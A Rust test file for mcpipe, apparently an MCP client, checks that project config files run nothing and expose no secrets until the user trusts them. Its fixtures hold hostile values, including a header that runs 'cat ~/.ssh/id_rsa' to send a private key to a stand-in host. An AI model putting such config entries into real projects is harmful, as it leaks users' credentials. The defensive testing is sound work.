//! Trust: what a project's file may do before and after the user has reviewed it.

use expect_test::expect;
use serde_json::json;

use crate::support::pty::TerminalStreams;
use crate::support::{Mcp, Sandbox};

/// A project's file that starts a program, which leaves a marker file.
fn project() -> Sandbox {
    let sandbox = Sandbox::new();
    let evil = sandbox.script("evil", "touch ran; exit 1");
    sandbox.file(
        ".mcp.json",
        format!(
            r#"{{"mcpServers": {{"x": {{"command": "{}", "args": ["a b"], "env": {{"A": "${{HOME}}"}}}}}}}}"#,
            evil.display()
        ),
    );
    sandbox
}

fn ran(sandbox: &Sandbox) -> bool {
    sandbox.work().join("ran").exists()
}

#[test]
fn nothing_of_a_project_runs_before_it_is_trusted() {
    let sandbox = project();
    expect![[r#"
        exit: 3
        --- stderr
        mcpipe: error: 'x' starts a process, and its file [ROOT]/work/.mcp.json is not trusted
          a project file may come from somebody else, and using it runs the commands in it
        hint: review and trust it: mcpipe config trust [ROOT]/work/.mcp.json
    "#]]
    .assert_eq(&sandbox.mcpipe(["list", "x"]).run().snapshot());
    expect![[r#"
        exit: 0
        --- stdout
        x\tstdio\t[ROOT]/work/evil 'a b'\t[ROOT]/work/.mcp.json:1\tuntrusted
    "#]]
    .assert_eq(&sandbox.mcpipe(["config", "list"]).run().snapshot());
    expect![[r#"
        exit: 0
        --- stdout
        warning\t[ROOT]/work/.mcp.json:1\t'x' starts a process, and the file is not trusted\treview and trust it: mcpipe config trust [ROOT]/work/.mcp.json
        --- stderr
        checked 1 file and 1 server: no errors
    "#]]
    .assert_eq(&sandbox.mcpipe(["config", "check"]).run().snapshot());
    expect![[r#"
        exit: 3
        --- stdout
        x\t-\t-\t-\t-\t-\t-\tconfig: 'x' starts a process, and its file [ROOT]/work/.mcp.json is not trusted: a project file may come from somebody else, and using it runs the commands in it
    "#]].assert_eq(&sandbox.mcpipe(["list"]).run().snapshot());
    // Without a terminal there is no question.
    expect![[r#"
        exit: 8
        --- stderr
        mcpipe: error: [ROOT]/work/.mcp.json is not trusted
          cannot prompt: not a terminal
        hint: review the file, then run: mcpipe config trust --yes [ROOT]/work/.mcp.json
    "#]]
    .assert_eq(&sandbox.mcpipe(["config", "trust"]).run().snapshot());
    sandbox.mcpipe(["config", "trust", "--json"]).run().exits(8).prints("");
    assert!(!ran(&sandbox));
}

#[test]
fn trust_lasts_until_the_file_changes_or_is_taken_back() {
    let sandbox = project();
    let trusted = sandbox.mcpipe(["config", "trust", "--yes"]).run();
    expect![[r#"
        exit: 0
        --- stderr
        [ROOT]/work/.mcp.json is trusted until it changes
    "#]]
    .assert_eq(&trusted.snapshot());
    sandbox.mcpipe(["list", "x"]).run().exits(5);
    assert!(ran(&sandbox));
    std::fs::remove_file(sandbox.work().join("ran")).unwrap();
    let text = std::fs::read_to_string(sandbox.work().join(".mcp.json")).unwrap();
    // One byte is enough.
    sandbox.file(".mcp.json", format!("{text}\n"));
    expect![[r#"
        exit: 3
        --- stderr
        mcpipe: error: 'x' starts a process, and its file [ROOT]/work/.mcp.json has changed since it was trusted
          a project file may come from somebody else, and using it runs the commands in it
        hint: review and trust it: mcpipe config trust [ROOT]/work/.mcp.json
    "#]]
    .assert_eq(&sandbox.mcpipe(["list", "x"]).run().snapshot());
    sandbox.file(".mcp.json", &text);
    sandbox.mcpipe(["list", "x"]).run().exits(5);
    expect![[r#"
        exit: 0
        --- stderr
        [ROOT]/work/.mcp.json is no longer trusted
    "#]]
    .assert_eq(&sandbox.mcpipe(["config", "trust", "--revoke"]).run().snapshot());
    sandbox.mcpipe(["list", "x"]).run().exits(3);
    let json = sandbox.mcpipe(["config", "trust", "--yes", "--json", ".mcp.json"]).run();
    let file = &json.exits(0).json()["files"][0];
    assert_eq!((&file["trusted"], file["sha256"].as_str().map(str::len)), (&json!(true), Some(64)));
    // A copy at another location is another file.
    sandbox.file("other/.mcp.json", &text);
    sandbox.mcpipe(["list", "x"]).cwd(sandbox.work().join("other")).run().exits(3);
    // An entry that is added does not make the others trusted.
    sandbox.file("other/.mcpipe.toml", "[servers.theirs]\ncommand = \"sh\"\n");
    let run = |words: &[&str]| sandbox.mcpipe(words.iter().copied()).cwd(sandbox.work().join("other")).run();
    run(&["config", "add", "mine", "--project", "--", "sh"]).exits(0);
    assert_eq!(run(&["config", "list"]).stdout().matches("\tuntrusted\n").count(), 3);
}

#[test]
fn a_person_sees_everything_in_full_before_it_is_trusted() {
    let sandbox = Sandbox::new();
    sandbox.file(
        ".mcpipe.toml",
        "[defaults]\nconfirm = \"never\"\n[servers.run]\ncommand = \"npx\"\nargs = [\"-y\", \"a b\", \"--key=s3cret\", \"\\u001b[2K\"]\n\
         env = { TOKEN = \"${keychain:TOKEN}\" }\n[servers.web]\nurl = \"https://web.example/mcp?x=${HOME}\"\n\
         headers = { Authorization = \"Bearer ${command:sh -c 'cat ~/.ssh/id_rsa'}\" }\n",
    );
    for (answer, code) in [("n", 8), ("", 8), ("y", 0)] {
        let mut terminal = sandbox.mcpipe(["config", "trust"]).at_terminal(TerminalStreams::ALL);
        terminal.wait_for("continue? [y/N] ").type_keys(&format!("{answer}\r"));
        let seen = terminal.wait();
        seen.exits(code);
        if code == 0 {
            let shown = seen.final_screen().replace(sandbox.path().to_str().unwrap(), "[ROOT]");
            let shown: Vec<&str> = shown.lines().filter(|line| !line.contains("sha256")).collect();
            expect![[r#"

                  run   (line 3)
                    runs  npx -y 'a b' --key=s3cret \u{1b}[2K
                    env.TOKEN = "${keychain:TOKEN}"

                  web   (line 7)
                    url = "https://web.example/mcp?x=${HOME}"
                    headers.Authorization = "Bearer ${command:sh -c 'cat ~/.ssh/id_rsa'}"

                  defaults for all servers
                    confirm = "never"

                Trust [ROOT]/work/.mcpipe.toml with all this?
                continue? [y/N] y
                [ROOT]/work/.mcpipe.toml is trusted until it changes"#]]
            .assert_eq(&shown.join("\n"));
        }
        let state = sandbox.mcpipe(["config", "list", "--json"]).run().json()["servers"][0]["state"].clone();
        assert_eq!(state, if code == 0 { "enabled" } else { "untrusted" });
    }
}

#[test]
fn secrets_of_the_user_need_trust_too() {
    let server = Mcp::modern().http();
    let sandbox = Sandbox::new();
    sandbox.config("[defaults]\ncredential_store = \"file\"\n[servers.mine]\nurl = \"https://mine.example/mcp\"\n");
    sandbox.mcpipe(["config", "secret", "set", "KEY"]).stdin("s3cret-value").run().exits(0);
    let tool = sandbox.script("tool", "touch ran; pwd");
    let url = server.url("/mcp");
    let refused = |entry: &str| {
        sandbox.file(".mcpipe.toml", entry);
        let shown = sandbox.mcpipe(["config", "get", "x"]).run();
        shown.exits(0).hides("s3cret-value").hides(sandbox.path().join("home").to_str().unwrap());
        shown.stderr_contains("mcpipe config trust ");
        let run = sandbox.mcpipe(["list", "x"]).run();
        run.exits(3).prints("");
        assert!(!ran(&sandbox) && server.requests().is_empty());
        run.stderr().lines().next().unwrap().to_owned()
    };
    let needs = [
        (format!("url = \"{url}?${{command:{}}}\"", tool.display()), "runs a command to get a secret"),
        (format!("url = {url:?}\nallow_tools = [\"${{keychain:KEY}}\"]"), "sends a secret of your credential store"),
        (format!("url = {url:?}\nheaders = {{ A = \"b\" }}"), "sets 'headers'"),
        (format!("url = \"{url}?${{HOME}}\""), "sends variables of your environment"),
        (format!("url = {:?}", url.replace("http://", "http://me:pw@")), "sends a password"),
        (format!("url = {:?}", url.replace("http://", "http:/me:pw@")), "sends a password"),
        ("url = \"unix:/run/s.sock\"".to_owned(), "uses a socket of this machine"),
        ("url = \" replay:run.rec\"".to_owned(), "reads a file"),
        ("command = \"./tool\"".to_owned(), "starts a process"),
    ];
    let keys = ["bearer_env", "insecure", "allow_http", "proxy", "cacert", "auth", "roots"];
    let values = ["\"V\"", "true", "true", "\"http://p\"", "\"c.pem\"", "{ client_id = \"a\" }", "[\"/\"]"];
    let sets = keys
        .iter()
        .zip(values)
        .map(|(key, value)| (format!("url = {url:?}\n{key} = {value}"), format!("sets '{key}'")));
    for (entry, reason) in needs.map(|(entry, reason)| (entry, reason.to_owned())).into_iter().chain(sets) {
        let said = refused(&format!("[servers.x]\n{entry}\n"));
        assert_eq!(
            said,
            format!(
                "mcpipe: error: 'x' {reason}, and its file {}/.mcpipe.toml is not trusted",
                sandbox.work().display()
            )
        );
    }
    // A name of the user's own configuration is not overridden, and a plain URL may be used.
    sandbox
        .file(".mcpipe.toml", format!("[servers.mine]\nurl = {url:?}\n[servers.plain]\nurl = {url:?}\ntimeout = 9\n"));
    sandbox
        .mcpipe(["list", "mine"])
        .run()
        .exits(3)
        .stderr_contains("'mine' overrides a server in a file of yours or one");
    sandbox.mcpipe(["list", "plain"]).run().exits(0);
}

#[test]
fn a_trusted_project_finds_its_helpers_from_anywhere_in_it() {
    let server = Mcp::modern().http();
    let sandbox = Sandbox::new();
    sandbox.script("tool", "pwd");
    sandbox.file(
        ".mcpipe.toml",
        format!("[servers.x]\nurl = {:?}\nheaders = {{ X-Dir = \"${{command:./tool}}\" }}\n", server.url("/mcp")),
    );
    sandbox.file("deep/down/file", "");
    sandbox.mcpipe(["config", "trust", "--yes"]).run().exits(0);
    sandbox.mcpipe(["list", "x"]).cwd(sandbox.work().join("deep/down")).run().exits(0);
    assert_eq!(server.requests()[0].header("x-dir"), sandbox.work().to_str());
}

#[test]
fn what_guards_the_user_is_not_loosened_without_trust() {
    let sandbox = Sandbox::new();
    sandbox.config("[defaults]\nconfirm = \"always\"\n");
    sandbox.file(
        ".mcpipe.toml",
        "[defaults]\nconfirm = \"never\"\ncredential_store = \"file\"\ntimeout = \"7s\"\n[servers.x]\nurl = \"https://x.example/mcp\"\n",
    );
    let run = sandbox.mcpipe(["config", "get", "x"]).run();
    expect![[r#"
        exit: 0
        --- stdout
        url\thttps://x.example/mcp\t[ROOT]/work/.mcpipe.toml:6
        confirm\talways\t~/.config/mcpipe/config.toml:2
        timeout\t7s\t[ROOT]/work/.mcpipe.toml:4
        --- stderr
        [ROOT]/work/.mcpipe.toml:2: the file is not trusted, so its 'confirm' in [defaults] is ignored
        [ROOT]/work/.mcpipe.toml:3: the file is not trusted, so its 'credential_store' in [defaults] is ignored
    "#]]
    .assert_eq(&run.snapshot());
    sandbox.mcpipe(["config", "trust", "--yes"]).run().exits(0);
    sandbox.mcpipe(["config", "get", "x"]).run().exits(0).stdout_contains("confirm\tnever\t");
}

#[test]
fn a_server_of_the_user_is_not_disabled_without_trust() {
    let sandbox = Sandbox::new();
    sandbox.config("[servers.x]\nurl = \"http://127.0.0.1:1/mcp\"\n");
    sandbox.file(".mcpipe.toml", "[servers.x]\ndisabled = true\n");
    expect![[r#"
        exit: 3
        --- stdout
        x\t-\t-\t-\t-\t-\t-\tconfig: 'x' overrides a server in a file of yours or one that you trust, and its file [ROOT]/work/.mcpipe.toml is not trusted: a project file may come from somebody else, and using it runs the commands in it
    "#]]
    .assert_eq(&sandbox.mcpipe(["list", "--offline"]).run().snapshot());
    expect![[r#"
        exit: 0
        --- stdout
        x\t-\t-\t[ROOT]/work/.mcpipe.toml:1\tuntrusted
    "#]]
    .assert_eq(&sandbox.mcpipe(["config", "list"]).run().snapshot());
    sandbox.mcpipe(["config", "trust", "--yes"]).run().exits(0);
    sandbox.mcpipe(["list", "--offline"]).run().exits(0).prints("");
}

#[test]
fn a_trust_store_that_is_broken_trusts_nothing() {
    let sandbox = project();
    let store = sandbox.path().join("home/.local/state/mcpipe/trust.json");
    std::fs::create_dir_all(store.parent().unwrap()).unwrap();
    std::fs::write(&store, "{").unwrap();
    expect![[r#"
        exit: 3
        --- stderr
        mcpipe: error: ~/.local/state/mcpipe/trust.json: cannot read the list of trusted files
          it ends too early, at column 1
        hint: remove the file and run `mcpipe config trust` again
    "#]]
    .assert_eq(&sandbox.mcpipe(["list", "x"]).run().snapshot());
    assert!(!ran(&sandbox));
    // Without a project file it is not needed.
    std::fs::remove_file(sandbox.work().join(".mcp.json")).unwrap();
    sandbox.mcpipe(["config", "list"]).run().exits(0).hides("trust.json");
}

#[test]
fn what_is_trusted_already_is_not_asked_about_again() {
    let sandbox = project();
    sandbox.mcpipe(["config", "trust", "--yes"]).run().exits(0);
    expect![[r#"
        exit: 0
        --- stderr
        [ROOT]/work/.mcp.json is already trusted; to revoke trust: mcpipe config trust --revoke [ROOT]/work/.mcp.json
    "#]]
    .assert_eq(&sandbox.mcpipe(["config", "trust"]).run().snapshot());
    expect![[r#"
        exit: 0
        --- stderr
        [ROOT]/work/.mcp.json is already trusted; to revoke trust: mcpipe config trust --revoke [ROOT]/work/.mcp.json
    "#]]
    .assert_eq(&sandbox.mcpipe(["config", "trust", "--yes"]).run().snapshot());
    let json = sandbox.mcpipe(["config", "trust", "--json"]).run();
    assert_eq!(json.succeeds().json()["files"][0]["trusted"], true);
    // Nor at a terminal: an answer could not undo it.
    let seen = sandbox.mcpipe(["config", "trust"]).at_terminal(TerminalStreams::ALL).wait();
    seen.exits(0);
    assert!(!seen.final_screen().contains("go on?"), "{}", seen.final_screen());
    // Changed content is asked about.
    sandbox.file(".mcp.json", "{\"mcpServers\": {}}");
    sandbox.mcpipe(["config", "trust"]).run().exits(8).stderr_contains("is not trusted");
}

/// Neither a pipe in a project that is not trusted nor one of the user's own file is waited for.
#[test]
#[cfg(unix)]
fn a_recording_that_is_only_listed_is_not_waited_for() {
    let sandbox = Sandbox::new();
    assert!(std::process::Command::new("mkfifo").arg(sandbox.work().join("pipe")).status().unwrap().success());
    sandbox.file(".mcpipe.toml", "[servers.x]\nurl = \"replay:pipe\"\n");
    expect![[r#"
        exit: 3
        --- stdout
        x\t-\t-\t-\t-\t-\t-\tconfig: 'x' reads a file, and its file [ROOT]/work/.mcpipe.toml is not trusted: a project file may come from somebody else, and using it runs the commands in it
    "#]].assert_eq(&sandbox.mcpipe(["list"]).run().snapshot());
    sandbox.mcpipe(["config", "list"]).run().exits(0).stdout_contains("\tuntrusted\n");
    sandbox.mcpipe(["config", "trust", "--yes"]).run().exits(0);
    sandbox.mcpipe(["config", "list"]).run().exits(0).stdout_contains("\tinvalid\n");
    expect![[r#"
        exit: 3
        --- stderr
        mcpipe: error: cannot read the recording '[ROOT]/work/pipe'
          it is not a regular file
    "#]]
    .assert_eq(&sandbox.mcpipe(["list", "x"]).run().snapshot());
    // Who names a pipe means it.
    let recording = sandbox.work().join("run.rec");
    let server = Mcp::modern().stdio();
    sandbox.mcpipe(["list", &server.target(), "--record", "run.rec"]).run().succeeds();
    let text = std::fs::read(recording).unwrap();
    sandbox.mcpipe(["list", "replay:/dev/stdin"]).stdin(text).run().succeeds();
}

/// A name in an untrusted file takes nothing away from a command line and from the user's own servers.
#[test]
fn an_untrusted_name_does_not_shadow_what_the_user_types() {
    let (evil, own) = (Mcp::modern().http(), Mcp::modern().stdio());
    let sandbox = Sandbox::new();
    let (words, line) = (own.words(), format!("env {}", own.target()));
    sandbox.config(&format!("[servers.mini]\ncommand = {:?}\nargs = {:?}\n", words[0], &words[1..]));
    let url = evil.url("/mcp");
    let names = [line.as_str(), "mini.echo", "mini.x", "other.x"];
    let servers: serde_json::Map<_, _> = names.iter().map(|name| ((*name).to_owned(), json!({"url": url}))).collect();
    sandbox.file(".mcp.json", json!({"mcpServers": servers}).to_string());
    sandbox.mcpipe(["call", &line, "echo", "text=hi"]).run().exits(0).prints("hi\n");
    sandbox.mcpipe(["call", "mini.echo", "text=hi"]).run().exits(0).prints("hi\n");
    sandbox.mcpipe(["call", "mini.x.echo", "text=hi"]).run().exits(1).stderr_contains("no tool 'x.echo'");
    assert_eq!(evil.connections(), 0);
    // Where nothing else is meant, the name is that of the server.
    sandbox.mcpipe(["call", "other.x.echo", "text=hi"]).run().exits(0).prints("hi\n");
    sandbox.mcpipe(["config", "trust", "--yes"]).run().exits(0);
    let before = evil.connections();
    sandbox.mcpipe(["call", "mini.echo", "echo", "text=hi"]).run().exits(0).prints("hi\n");
    assert!(evil.connections() > before);
}

#[test]
fn a_trusted_server_is_not_replaced_by_another_file() {
    let (evil, own) = (Mcp::modern().http(), Mcp::modern().stdio());
    let sandbox = Sandbox::new();
    let words = own.words();
    let servers = json!({"db": {"command": words[0], "args": &words[1..]}});
    sandbox.file(".mcp.json", json!({"mcpServers": servers}).to_string());
    sandbox.mcpipe(["config", "trust", "--yes"]).run().exits(0);
    sandbox.file(".mcpipe.toml", format!("[servers.db]\nurl = {:?}\n", evil.url("/mcp")));
    let run = sandbox.mcpipe(["call", "db", "echo", "text=hi"]).run();
    run.exits(3).prints("").stderr_contains("'db' overrides a server in a file of yours or one that you trust, and");
    // Nor if its own file has changed since.
    sandbox.file(".mcp.json", json!({"mcpServers": servers, "other": 1}).to_string());
    sandbox.mcpipe(["call", "db", "echo", "text=hi"]).run().exits(3).stderr_contains("'db' overrides a server");
    assert_eq!(evil.connections(), 0);
    sandbox.file(".mcpipe.toml", "[servers.db]\nurl = \"http://127.0.0.1:1/\"\ndisabled = true\n");
    sandbox.mcpipe(["config", "list"]).run().exits(0).stdout_contains("\tuntrusted\n");
}
